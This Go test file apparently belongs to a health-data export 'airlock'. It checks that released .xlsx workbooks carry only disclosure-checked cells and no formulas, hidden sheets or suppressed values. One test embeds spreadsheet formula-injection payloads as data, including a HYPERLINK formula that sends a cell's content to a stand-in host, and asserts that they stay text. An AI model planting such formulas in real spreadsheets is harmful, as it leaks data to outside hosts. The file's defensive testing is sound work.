package airlock

import (
	"context"
	"encoding/json"
	"errors"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stewardhealth/steward/internal/derrors"
	"github.com/stewardhealth/steward/internal/disclosure"
	"github.com/stewardhealth/steward/internal/store"
	"github.com/stewardhealth/steward/internal/store/storetest"
	"github.com/stewardhealth/steward/internal/warehouse/querydef"
	"github.com/stewardhealth/steward/internal/xlsxwitness"
)

// Attack: an analyst asks for a computed table as .xlsx, hoping the workbook carries what
// the CSV does not — the dominated men's cell's true sum (one planted person's 1,000,000
// among 105 men: 1,000,520) and count (105), the unknown sex's 5 persons and their sum 25,
// the agency column and its code, a formula, a hidden sheet, a defined name, a comment, or
// the library's or a user's name in the document properties. Every part of the zip is read
// with archive/zip and encoding/xml (xlsxwitness), not with the library that wrote it.
func TestAttackXLSXCarriesOnlyTheCheckedTable(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		w, wh := tablesWorld(t, db)
		bob := w.who("bob")
		a, err := wh.Run(ctx, bob, "diab", querydef.Query{Name: "diabetes or heart", Panels: []querydef.Panel{{Items: []querydef.Item{{Key: `\t\diab\`}, {Key: `\t\heart\`}}}}})
		must(t, err)
		r, err := w.s.SubmitTable(ctx, bob, "diab", TableRequest{Purpose: "x by sex", Query: a.QueryID, Dimensions: []string{"sex"}, Statistic: "sum", Concept: "LAB:X", Name: "x.xlsx"})
		must(t, err)
		if r.Status != Released {
			t.Fatalf("automatic analyst's computed .xlsx: %s (%s), want released", r.Status, r.Comment)
		}
		wb, err := xlsxwitness.Read([]byte(released(t, w.s, r, "x.xlsx")))
		if err != nil {
			t.Fatalf("the released x.xlsx is not a readable workbook: %v", err)
		}
		table := wb.Sheet("table")
		if table == nil {
			t.Fatalf("sheets %v: want one named table", wb.Sheets)
		}
		// the table is the checked one: the women's true 142 persons and sum 710 as numbers,
		// the men's and the unknown sex's cells suppressed
		got := table.Strings()
		want := [][]string{{"sex", "persons", "sum"}, {"F", "142", "710"}, {"M", "suppressed", "suppressed"}, {"unknown", "suppressed", "suppressed"}}
		slices.SortFunc(got[1:], func(x, y []string) int { return strings.Compare(x[0], y[0]) })
		if !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("table sheet %q, want %q", got, want)
		}
		var numbers []string
		for _, s := range wb.Sheets {
			for _, row := range s.Rows {
				for _, c := range row {
					if c.Formula {
						t.Errorf("sheet %s cell %s holds a formula", s.Name, c.Ref)
					}
					if c.Number() {
						numbers = append(numbers, s.Name+"!"+c.Value)
					}
				}
			}
			if s.State != "" && s.State != "visible" {
				t.Errorf("sheet %s is %s", s.Name, s.State)
			}
		}
		slices.Sort(numbers)
		if !slices.Equal(numbers, []string{"table!142", "table!710"}) {
			t.Errorf("numeric cells %v: want exactly the shown 142 and 710, as numbers", numbers)
		}
		if wb.DefinedNames != 0 {
			t.Errorf("the workbook has %d defined names", wb.DefinedNames)
		}
		users := regexp.MustCompile(`(?i)\b(xuri|olga|sam|ann)\b`)
		// in any part's text or attributes: the men's true sum (in any spelling), the planted
		// value, the agency column or code; in any cell's value (shared strings resolved; the
		// parts' own numbers are indices and sizes): those and the hidden counts 105, 5, 25
		secret := regexp.MustCompile(`(?i)1000520|1\.00052e|1e\+0?6|1000000|\bnorth\b|\bagency\b`)
		hiddenValue := regexp.MustCompile(`^(105|5|25|1000520|1\.00052e\+06)$`)
		for _, s := range wb.Sheets {
			for _, row := range s.Rows {
				for _, c := range row {
					if hiddenValue.MatchString(c.Value) || secret.MatchString(c.Value) {
						t.Errorf("sheet %s cell %s holds %q: a suppressed value or count, or the contributor", s.Name, c.Ref, c.Value)
					}
				}
			}
		}
		for part, texts := range wb.Text() {
			if strings.Contains(strings.ToLower(part), "comment") || strings.Contains(part, "vmlDrawing") || strings.Contains(part, "externalLink") || strings.Contains(part, "vbaProject") {
				t.Errorf("the workbook has a part %s", part)
			}
			for _, s := range texts {
				if secret.MatchString(s) {
					t.Errorf("part %s holds %q: a suppressed value, its count or the contributor column", part, s)
				}
				if users.MatchString(s) {
					t.Errorf("part %s names a user or the library's author: %q", part, s)
				}
			}
		}
		// the provenance sheet: the query, its definition digest, the parameters, when, by whom
		prov := wb.Sheet("provenance")
		if prov == nil {
			t.Fatalf("no provenance sheet in %v", wb.Sheets)
		}
		fields := map[string]string{}
		for _, row := range prov.Strings() {
			if len(row) == 2 {
				fields[row[0]] = row[1]
			}
		}
		pv := r.Files[0].Provenance
		if fields["query_id"] != a.QueryID || fields["definition_sha256"] != pv.Definition || len(pv.Definition) != 64 || fields["by"] != "bob" ||
			fields["statistic"] != "sum" || fields["concept"] != "LAB:X" || fields["dimensions"] != "sex" || fields["export"] != r.ID || fields["at"] == "" {
			t.Errorf("provenance sheet %v: want the query, its digest, the parameters, the export, when and by whom", fields)
		}
	})
}

// Attack: a hand-made upload named .xlsx (its cells declared, not verified). Hand-made
// uploads are CSV: the name is refused, naming the file, rather than served as a workbook
// holding whatever the analyst sent.
func TestAttackHandMadeUploadNamedXLSXRefused(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		w := newWorld(t, db)
		must(t, w.s.SetExporter(ctx, w.who("sam"), "diab", "bob", Validated, ""))
		_, err := w.s.Submit(ctx, w.who("bob"), "diab", Submission{Purpose: "p", Files: []FileInput{{Name: "t.xlsx", Meta: meta, Data: table(500)}}})
		if !errors.Is(err, derrors.Invalid) || !strings.Contains(err.Error(), "t.xlsx") || !strings.Contains(err.Error(), "hand-made uploads are CSV") {
			t.Fatalf("hand-made t.xlsx: got %v, want invalid, naming the file and saying uploads are CSV", err)
		}
		var n int
		must(t, db.QueryRowContext(ctx, `SELECT COUNT(*) FROM export_requests`).Scan(&n))
		if n != 0 {
			t.Fatalf("%d requests stored after the refusal", n)
		}
	})
}

// An approved exception of a computed .xlsx releases the checked table with only the cells
// both reviewers free, as a workbook: the dominated men's cell freed shows its true 105 and
// 1,000,520 as numbers; the unknown sex's 5 persons and their 25 stay suppressed and appear
// in no cell. In it, and in a validated analyst's .xlsx approved without an exception, the
// workbook shows exactly the cells the ledger records as shown, with the persons it records.
func TestXLSXExceptionAndApproval(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		w, wh := tablesWorld(t, db)
		bob, ann := w.who("bob"), w.who("ann")
		query := func(p string) string {
			a, err := wh.Run(ctx, w.who(p), "diab", querydef.Query{Name: "diabetes or heart", Panels: []querydef.Panel{{Items: []querydef.Item{{Key: `\t\diab\`}, {Key: `\t\heart\`}}}}})
			must(t, err)
			return a.QueryID
		}
		// sheet reads the released workbook's table and checks it against the ledger's record
		sheet := func(r *Request, file string) map[string][]string {
			t.Helper()
			wb, err := xlsxwitness.Read([]byte(fetch(t, w, r.ID, r.Author, file)))
			if err != nil {
				t.Fatalf("%s: %v", file, err)
			}
			s := wb.Sheet("table")
			if s == nil {
				t.Fatalf("%s: no sheet table", file)
			}
			var rec string
			must(t, db.QueryRowContext(ctx, `SELECT record FROM release_ledger WHERE request_id = $1`, r.ID).Scan(&rec))
			var led disclosure.Release
			must(t, json.Unmarshal([]byte(rec), &led))
			out, shown := map[string][]string{}, 0
			for i, row := range s.Rows {
				if i == 0 {
					continue
				}
				key, persons := row[0].Value, row[1]
				n, recorded := led.Cells[key]
				switch {
				case persons.Value == "suppressed" && !persons.Number():
					if recorded {
						t.Errorf("%s: cell sex=%s suppressed, but the ledger records it shown", file, key)
					}
				case persons.Number() && recorded && strconv.FormatInt(n, 10) == persons.Value:
					shown++
				default:
					t.Errorf("%s: cell sex=%s shows %+v, the ledger records %d (recorded %v)", file, key, persons, n, recorded)
				}
				for _, c := range row[1:] {
					out[key] = append(out[key], c.Value)
				}
			}
			if shown != len(led.Cells) {
				t.Errorf("%s: %d cells shown, the ledger records %d", file, shown, len(led.Cells))
			}
			return out
		}
		r, err := w.s.SubmitTable(ctx, bob, "diab", TableRequest{Purpose: "x by sex", Query: query("bob"), Dimensions: []string{"sex"}, Statistic: "sum", Concept: "LAB:X",
			Format: "xlsx", Exception: "the men's sum is published in the annual report"})
		must(t, err)
		if r.Status != Pending || r.Files[0].Name != "table.xlsx" {
			t.Fatalf("exception asked: %s (%s) files %v, want pending table.xlsx", r.Status, r.Comment, r.Files)
		}
		r = approveBy(t, w, r.ID, map[string][]string{"table.xlsx": {"sex=M"}}, exceptionReviewers...)
		if r.Status != Released {
			t.Fatalf("exception approved: %s (%s)", r.Status, r.Comment)
		}
		got := sheet(r, "table.xlsx")
		if !slices.Equal(got["M"], []string{"105", "1000520"}) || !slices.Equal(got["unknown"], []string{"suppressed", "suppressed"}) {
			t.Errorf("the exception's workbook %q: want the freed men's 105 and 1000520, the unknown sex suppressed", got)
		}

		p, err := w.s.SubmitTable(ctx, ann, "diab", TableRequest{Purpose: "x by sex", Query: query("ann"), Dimensions: []string{"sex"}, Name: "n.xlsx"})
		must(t, err)
		if p.Status != Pending {
			t.Fatalf("validated analyst's .xlsx: %s (%s)", p.Status, p.Comment)
		}
		p, err = w.s.Review(ctx, w.who("olga"), p.ID, true, "fine")
		must(t, err)
		if got := sheet(p, "n.xlsx"); p.Status != Released || !slices.Equal(got["F"], []string{"142"}) || !slices.Equal(got["unknown"], []string{"suppressed"}) {
			t.Errorf("approved: %s, workbook %q, want the women's 142 and the unknown sex suppressed", p.Status, got)
		}
	})
}

// Attack: a dimension's value loaded into the warehouse as a formula ("=HYPERLINK(…)", "+1+1",
// "@SUM(…)") or looking like a number stays text in the workbook: no cell holds a formula,
// and only the persons and the statistic are numbers.
func TestAttackXLSXDimensionValuesStayText(t *testing.T) {
	checked := "race,persons,sum\n\"=HYPERLINK(\"\"http://x.test/\"\"&A1,\"\"x\"\")\",40,200\n+1+1,41,205\n@SUM(B2:B3),42,210\n0042,43,215\n"
	m := disclosure.Meta{Persons: "persons", Dimensions: []string{"race"}, Magnitudes: []string{"sum"}}
	b, err := releasedXLSX([]byte(checked), m, nil, "exp-1", "t.xlsx")
	must(t, err)
	wb, err := xlsxwitness.Read(b)
	must(t, err)
	got := wb.Sheet("table")
	want := [][]string{{"race", "persons", "sum"}, {`=HYPERLINK("http://x.test/"&A1,"x")`, "40", "200"}, {"+1+1", "41", "205"}, {"@SUM(B2:B3)", "42", "210"}, {"0042", "43", "215"}}
	if got == nil || !slices.EqualFunc(got.Strings(), want, slices.Equal) {
		t.Fatalf("sheet table %v, want %q", got, want)
	}
	for i, row := range got.Rows {
		for j, c := range row {
			if c.Formula {
				t.Errorf("cell %s holds a formula", c.Ref)
			}
			if c.Number() != (i > 0 && j > 0) {
				t.Errorf("cell %s %q: stored as a number %v", c.Ref, c.Value, c.Number())
			}
		}
	}
}
